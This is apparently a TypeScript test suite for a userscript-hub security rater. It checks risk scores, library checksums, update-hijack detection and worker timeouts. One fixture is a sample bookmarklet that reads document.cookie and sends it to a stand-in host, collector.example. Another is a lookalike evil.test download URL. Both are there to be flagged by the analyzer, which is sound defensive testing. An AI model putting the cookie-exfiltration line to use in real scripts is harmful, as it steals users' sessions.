import type { ScriptInput } from "@scriptorium/script-analyzer/analysis-result";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { publicAddress, requireFromHub, servedLibraries } from "@scriptorium/shared-protocol/served-libraries";
import { toUserscript } from "@scriptorium/userscript/to-userscript";
import { inProcessWorker } from "@scriptorium/worker-requests/in-process-worker.test-support";
import { afterEach, expect, it, vi } from "vitest";
import { LIBRARIES_TIMEOUT_MS, RATING_TIMEOUT_MS, rateScript } from "../rating/rate-script.ts";
import { readMenuScript } from "./menu-script.ts";
import { ratableText } from "./ratable-text.ts";

afterEach(() => void vi.useRealTimers());

const hubOrigin = "https://hub.example";
const updates = `${hubOrigin}/scripts/1/a`;

/** A worker that responds with what `respond` returns, or not at all when that is undefined. */
function worker(respond: (input: ScriptInput) => unknown) {
	const ended = vi.fn();
	const start = inProcessWorker((request) => respond(request as ScriptInput) ?? new Promise(() => undefined));
	return { spawn: () => ({ ...start(), terminate: ended }), ended };
}

function rate(code: string, { spawn } = worker(analyzeScript), signal = new AbortController().signal) {
	return rateScript(ratableText(code, { hubOrigin, menuScript: readMenuScript(code) }), { spawn, signal });
}
const resultOf = async (code: string) => {
	const rating = await rate(code);
	if (rating.state !== "rated") throw new Error(rating.reason);
	return rating.result;
};

const userscript = (lines: readonly string[], body: string) =>
	[
		"// ==UserScript==",
		"// @name Quiet",
		"// @namespace https://ada.example",
		"// @match https://example.org/*",
		...lines,
		"// ==/UserScript==",
		body,
	].join("\n");

const requireLine = (code: string) =>
	code
		.split("\n")
		.map((line) => requireFromHub(line, hubOrigin))
		.join("\n");

it("rates a served userscript as the hub has rated the stored one", async () => {
	const stored = userscript([], "document.title = 'x';");
	const served = userscript(
		["// @version 1.2.0", `// @updateURL    ${updates}.meta.js`, `// @downloadURL  ${updates}.user.js?update`],
		"document.title = 'x';",
	);
	const { risk_level, score, vulnerabilities } = await resultOf(served);
	expect({ risk_level, score, vulnerabilities }).toEqual({ risk_level: "green", score: 100, vulnerabilities: [] });
	expect(analyzeScript({ code: stored })).toMatchObject({ risk_level, score });
});

it("rates a library from the hub by the public address of the same file, and no other file of the hub", async () => {
	const [library] = servedLibraries;
	if (!library) throw new Error("There is no served library");
	const stored = userscript([`// @require ${publicAddress(library)}`], "axe.run();");
	const served = requireLine(stored);
	expect(served).not.toBe(stored);
	expect(analyzeScript({ code: served }).risk_level).toBe("amber");
	expect((await resultOf(served)).vulnerabilities).toEqual(analyzeScript({ code: stored }).vulnerabilities);
	expect((await resultOf(served)).risk_level).toBe("green");
	for (const other of [
		served.replace("/assets/axe-core", "/avatars/axe-core"),
		served.replace(hubOrigin, "https://hub.test"),
	]) {
		expect((await resultOf(other)).vulnerabilities).toContainEqual(
			expect.objectContaining({ type: "unchecked-library" }),
		);
	}
});

it("counts update addresses that are not the hub's", async () => {
	const foreign = "// @downloadURL https://elsewhere.example/a.user.js";
	const lookalike = `// @downloadURL ${hubOrigin}.evil.test/a.user.js`;
	for (const line of [foreign, lookalike]) {
		expect((await resultOf(userscript([line], "1;"))).vulnerabilities).toMatchObject([{ type: "update-hijack" }]);
	}
});

it("rates a bookmarklet without the menu command around it, at the lines of the served text", async () => {
	const body = "const secret = document.cookie;\nfetch('https://collector.example/?' + secret);";
	const about = { name: "Leak", description: "It leaks.", version: "1.0.0", author: "A", namespace: hubOrigin };
	const code = toUserscript({
		...about,
		body,
		updateUrl: `${updates}.meta.js`,
		downloadUrl: `${updates}.user.js?update`,
	});
	const result = await resultOf(code);
	const stored = analyzeScript({ code: body });
	expect(result).toMatchObject({ risk_level: "red", score: stored.score });
	expect(result.vulnerabilities.map(({ type }) => type)).toEqual(stored.vulnerabilities.map(({ type }) => type));
	const [worst] = result.vulnerabilities;
	expect(code.split("\n")[(worst?.line ?? 0) - 1]).toContain("fetch(");
});

it("says that the check took too long, and ends the worker", async () => {
	vi.useFakeTimers();
	const hanging = worker(() => undefined);
	const rating = rate("x", hanging);
	await vi.advanceTimersByTimeAsync(RATING_TIMEOUT_MS);
	expect(await rating).toEqual({ state: "failed", reason: "took-too-long" });
	expect(hanging.ended).toHaveBeenCalled();
});

it("rates a script without its libraries when the check takes too long with them", async () => {
	vi.useFakeTimers();
	const address = "https://cdn.example/slow.js";
	const slow = worker((input) =>
		input.libraries?.some(({ problem }) => problem === undefined) ? undefined : analyzeScript(input),
	);
	const text = ratableText(userscript([`// @require ${address}`], "1;"), {
		hubOrigin,
		menuScript: null,
		libraries: [{ address, text: "1;" }],
	});
	const rating = rateScript(text, { spawn: slow.spawn, signal: new AbortController().signal });
	await vi.advanceTimersByTimeAsync(LIBRARIES_TIMEOUT_MS);
	expect(await rating).toMatchObject({
		state: "rated",
		result: {
			capabilities: {
				libraries: [{ state: "not-checked", reason: "it takes too long to be checked with the script" }],
			},
		},
	});
});

it("rates a library whose checksum the hub has added by its address as stored", async () => {
	const address = "https://cdn.example/tools.js";
	const stored = userscript([`// @require ${address}`], "1;");
	const served = stored.replace(address, `${address}#rated,sha256=${"a".repeat(64)}`);
	const { risk_level, score, vulnerabilities } = analyzeScript({ code: stored, reading: "installed" });
	expect(await resultOf(served)).toMatchObject({ risk_level, score, vulnerabilities });
});

it("takes nothing but a result for a rating", async () => {
	const failed = { state: "failed", reason: "crashed" };
	expect(
		await rate(
			"x",
			worker(() => ({ risk_level: "green", score: 100 })),
		),
	).toEqual(failed);
	const refusing = {
		...worker(() => undefined),
		spawn: () => {
			throw new Error("no worker");
		},
	};
	expect(await rate("x", refusing)).toEqual(failed);
	const broken = worker(() => {
		throw new Error("boom");
	});
	expect(await rate("x", broken)).toEqual(failed);
	const leaving = new AbortController();
	const left = rate(
		"x",
		worker(() => undefined),
		leaving.signal,
	);
	leaving.abort();
	expect(await left).toEqual(failed);
});
